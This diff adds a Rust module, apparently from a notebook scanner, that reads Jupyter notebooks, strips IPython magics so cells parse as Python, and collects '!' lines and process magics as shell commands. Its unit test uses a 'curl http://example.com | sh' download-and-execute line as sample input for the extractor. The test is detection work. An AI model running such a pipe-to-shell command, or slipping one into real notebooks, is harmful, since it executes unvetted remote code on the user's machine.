@@ -0,0 +1,187 @@
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+
+use crate::{Result, ScoutError};
+
+/// Line magics that run a process, e.g. `%system ls` or `%pip install x`.
+const PROCESS_MAGICS: [&str; 7] = ["system", "sx", "sc", "run", "pip", "conda", "bash"];
+/// Cell magics whose body is a script for another program, e.g. `%%bash`.
+const PROCESS_CELL_MAGICS: [&str; 5] = ["bash", "sh", "script", "system", "sx"];
+/// Cell magics whose body is still Python.
+const PYTHON_CELL_MAGICS: [&str; 5] = ["time", "timeit", "capture", "prun", "debug"];
+
+/// A `!shell` line or a process magic in a notebook cell, the line is relative to the cell.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct ShellCommand {
+    pub line: usize,
+    pub col: usize,
+    pub command: String,
+    /// The magic that runs the command, `None` for `!` lines
+    pub magic: Option<String>,
+}
+
+/// The code cells of a notebook as `(N, source)`, where `N` is the 1-based position of the
+/// cell among all cells, so it matches what is seen when scrolling through the notebook.
+pub fn code_cells(json: &str) -> Result<Vec<(usize, String)>> {
+    let notebook: Value =
+        serde_json::from_str(json).map_err(|err| ScoutError::parse_from(err.to_string(), err))?;
+
+    // nbformat 4 has the cells at the top, nbformat 3 inside worksheets with `input`
+    let (cells, source_key) = match notebook.get("cells") {
+        Some(cells) => (cells, "source"),
+        None => match notebook.pointer("/worksheets/0/cells") {
+            Some(cells) => (cells, "input"),
+            None => return Err(ScoutError::parse("The notebook has no cells")),
+        },
+    };
+    let cells = cells
+        .as_array()
+        .ok_or_else(|| ScoutError::parse("The notebook cells are not a list"))?;
+
+    Ok(cells
+        .iter()
+        .enumerate()
+        .filter(|(_, cell)| cell.get("cell_type").and_then(Value::as_str) == Some("code"))
+        .map(|(idx, cell)| {
+            let mut source = match cell.get(source_key) {
+                Some(Value::String(source)) => source.to_owned(),
+                Some(Value::Array(lines)) => lines.iter().filter_map(Value::as_str).collect(),
+                _ => String::from(""),
+            };
+            // cells don't end with a newline, unlike files
+            if !source.ends_with('\n') {
+                source.push('\n');
+            }
+            (idx + 1, source)
+        })
+        .collect())
+}
+
+fn indentation(line: &str) -> &str {
+    &line[..(line.len() - line.trim_start().len())]
+}
+
+/// Replaces IPython syntax with `pass` so the cell parses as Python, keeping line numbers.
+/// `!` lines, including assignments like `files = !ls`, and process magics are returned as
+/// shell commands.
+pub fn strip_magics(source: &str) -> (String, Vec<ShellCommand>) {
+    let mut lines: Vec<String> = source.lines().map(|line| line.to_owned()).collect();
+    let mut commands: Vec<ShellCommand> = vec![];
+
+    if let Some(cell_magic) = lines
+        .first()
+        .and_then(|line| line.trim().strip_prefix("%%"))
+    {
+        let name = cell_magic
+            .split_whitespace()
+            .next()
+            .unwrap_or_default()
+            .to_owned();
+        lines[0] = String::from("pass");
+
+        if !PYTHON_CELL_MAGICS.contains(&name.as_str()) {
+            // the rest of the cell isn't Python, e.g. `%%bash` or `%%html`
+            for (idx, line) in lines.iter_mut().enumerate().skip(1) {
+                if PROCESS_CELL_MAGICS.contains(&name.as_str()) && !line.trim().is_empty() {
+                    commands.push(ShellCommand {
+                        line: idx + 1,
+                        col: indentation(line).len() + 1,
+                        command: line.trim().to_owned(),
+                        magic: Some(name.to_owned()),
+                    });
+                }
+                line.clear();
+            }
+            return (lines.join("\n"), commands);
+        }
+    }
+
+    for (idx, line) in lines.iter_mut().enumerate() {
+        let indent = indentation(line).to_owned();
+        let trimmed = line.trim_start();
+
+        // `files = !ls` and `out = %sx ls` capture the output of a command
+        let rhs = trimmed
+            .split_once('=')
+            .filter(|(lhs, rhs)| {
+                let lhs = lhs.trim();
+                !lhs.is_empty()
+                    && lhs.chars().all(|c| c.is_alphanumeric() || c == '_')
+                    && (rhs.trim_start().starts_with('!') || rhs.trim_start().starts_with('%'))
+            })
+            .map(|(_, rhs)| rhs.trim_start());
+        let magic_line = rhs.unwrap_or(trimmed);
+        let col = line.len() - magic_line.len() + 1;
+
+        if let Some(command) = magic_line.strip_prefix('!') {
+            commands.push(ShellCommand {
+                line: idx + 1,
+                col,
+                command: command.trim_start_matches('!').trim().to_owned(),
+                magic: None,
+            });
+        } else if let Some(magic) = magic_line.strip_prefix('%') {
+            let (name, command) = magic.split_once(char::is_whitespace).unwrap_or((magic, ""));
+            if PROCESS_MAGICS.contains(&name) {
+                commands.push(ShellCommand {
+                    line: idx + 1,
+                    col,
+                    command: command.trim().to_owned(),
+                    magic: Some(name.to_owned()),
+                });
+            }
+        } else {
+            continue;
+        }
+
+        *line = format!("{}pass", indent);
+    }
+
+    (lines.join("\n"), commands)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{code_cells, strip_magics};
+
+    #[test]
+    fn test_code_cells() {
+        let notebook = r##"{"cells": [
+            {"cell_type": "markdown", "source": ["# Title"]},
+            {"cell_type": "code", "source": ["import os\n", "print(1)"]},
+            {"cell_type": "code", "source": "x = 1"}
+        ], "nbformat": 4}"##;
+
+        assert_eq!(
+            code_cells(notebook).unwrap(),
+            vec![
+                (2, String::from("import os\nprint(1)\n")),
+                (3, String::from("x = 1\n"))
+            ]
+        );
+    }
+
+    #[test]
+    fn test_strip_magics() {
+        let cell = "%matplotlib inline\nfiles = !ls -la\nif True:\n    !curl http://example.com | sh\n%pip install requests";
+        let (source, commands) = strip_magics(cell);
+
+        assert_eq!(source, "pass\npass\nif True:\n    pass\npass");
+        let commands: Vec<(usize, usize, &str)> = commands
+            .iter()
+            .map(|c| (c.line, c.col, c.command.as_str()))
+            .collect();
+        assert_eq!(
+            commands,
+            vec![
+                (2, 9, "ls -la"),
+                (4, 5, "curl http://example.com | sh"),
+                (5, 1, "install requests")
+            ]
+        );
+
+        let (source, commands) = strip_magics("%%bash\necho hi\n\nid");
+        assert_eq!(source, "pass\n\n\n");
+        assert_eq!(commands.len(), 2);
+    }
+}